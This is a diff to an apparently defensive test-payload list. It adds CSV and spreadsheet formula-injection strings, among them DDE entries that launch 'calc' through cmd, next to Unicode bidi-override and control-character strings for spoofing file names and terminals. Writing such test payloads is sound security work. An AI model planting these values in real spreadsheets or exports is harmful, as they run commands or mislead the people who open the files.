@@ -80,7 +80,7 @@ MARKUP += [  # handlers of other elements and events
 SHEETS += [
     "=SUM(1+{n})*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\calc'!{n}", "=EXEC(\"calc{n}\")", "=CALL(\"x{n}\",\"y\",\"J\",0)", "=REGISTER(\"x{n}\",\"y\",\"J\")", "=INDIRECT(\"A{n}\")", "=FILTERXML(\"<a>{n}</a>\",\"a\")",
     "=RTD(\"x{n}\",,\"y\")", "=IMPORTDATA(\"//x.invalid/{n}\")", "=IMPORTFEED(\"//x.invalid/{n}\")", "=IMPORTRANGE(\"x{n}\",\"A1\")", "=QUERY(A1,\"select {n}\")", "=LAMBDA(x,x+{n})(1)", "{{=1+{n}}}", "\n=1+{n}", "\r=1+{n}", "\u00a0=1+{n}",
-    "\u3000=1+{n}", "\ufeff=1+{n}", "\u200b=1+{n}", "\u202e=1+{n}", "﹢1+{n}", "－1+{n}", "＠SUM({n})", "+=1+{n}", "--1+{n}", "=+-@{n}", "=\u200b1+{n}", "\"\"=1+{n}", "a\n=1+{n}", "a\t=1+{n}", "a\"\r\n=1+{n}", "sep=;{n}", "ID;{n}",
+    "\u3000=1+{n}", "\ufeff=1+{n}", "\u200b=1+{n}", "\u202e=1+{n}", "﹢1+{n}", "－1+{n}", "＠SUM({n})", "+=1+{n}", "--1+{n}", "=+-@{n}", "=\u200b1+{n}", "\"\"=1+{n}", "a\n=1+{n}", "a\t=1+{n}", "a\"\r\n=1+{n}", "a;=1+{n}", "a; \"=cmd|' /C calc'!A{n}", "sep=;{n}", "ID;{n}",
 ]
 TURNS += [
     "\u202b{n}.txt", "\u2068{n}\u2069", "\u061c{n}", "{n}\u202e\u202egnp.", "\u2066\u202e{n}", "\x08\x08{n}", "\x0b{n}", "\x0c{n}", "\r{n}", "\x9b31m{n}", "\x1bP{n}\x1b\\", "\U000e0041{n}", "\u2060{n}", "\u00ad{n}", "\u034f{n}", "\ufff9{n}\ufffb",
